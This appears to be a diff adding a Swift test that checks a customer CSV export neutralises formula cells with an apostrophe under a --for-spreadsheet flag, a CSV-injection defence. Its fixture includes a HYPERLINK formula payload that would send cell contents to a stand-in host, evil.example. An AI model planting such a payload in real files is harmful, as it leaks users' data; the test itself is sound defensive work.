@@ -151,6 +151,33 @@ import Testing
         }
     }
 
+    /// A cell a spreadsheet would run as a formula ("=HYPERLINK(…)", "@SUM(…)", "+…", "-…") is
+    /// exported as stored, so the file imports again unchanged, unless `--for-spreadsheet` asks
+    /// for a `'` in front of it (OWASP's advice for CSV injection).
+    @Test func anExportForASpreadsheetPrefixesCellsThatWouldRunAsFormulas() async throws {
+        try await withServer { server, client in
+            let names = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "@SUM(A1:A9)", "+358 Oy", "-Ostrava-", "Acme Oy"]
+            for name in names { _ = try await client.customers.create(CustomerFields(name: name, email: "=x@acme.fi")) }
+            let plain = try await ctl(server, "customers", "export", "--format", "csv", "--order", "number")
+            #expect(plain.status == 0, "\(plain.stderr)")
+            #expect(plain.stdout.contains(",\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\","), "\(plain.stdout)")
+            #expect(plain.stdout.contains(",@SUM(A1:A9),") && plain.stdout.contains(",-Ostrava-,"))
+
+            let safe = try await ctl(server, "customers", "export", "--format", "csv", "--order", "number", "--for-spreadsheet")
+            #expect(safe.status == 0, "\(safe.stderr)")
+            let rows = safe.stdout.components(separatedBy: "\r\n").dropFirst().filter { !$0.isEmpty }
+            #expect(rows.count == names.count)
+            #expect(rows[0].contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\","), "\(rows[0])")
+            #expect(rows[1].contains(",'@SUM(A1:A9),") && rows[2].contains(",'+358 Oy,") && rows[3].contains(",'-Ostrava-,"))
+            #expect(rows[4].contains(",Acme Oy,"), "a name that is no formula is left alone")
+            #expect(rows.allSatisfy { $0.contains(",'=x@acme.fi,") }, "every column, not the name only")
+
+            let json = try await ctl(server, "customers", "export", "--for-spreadsheet")
+            #expect(json.status == 64)
+            #expect(json.stderr.contains("--for-spreadsheet needs --format csv"), "\(json.stderr)")
+        }
+    }
+
     /// 100 000 customers (every tenth with a head office and a first contact, some of those with
     /// keywords and roles; some with a Finnish VAT number and so a business id, some with a bare
     /// Norwegian organisation number, a business id only) exported as CSV, imported into a fresh
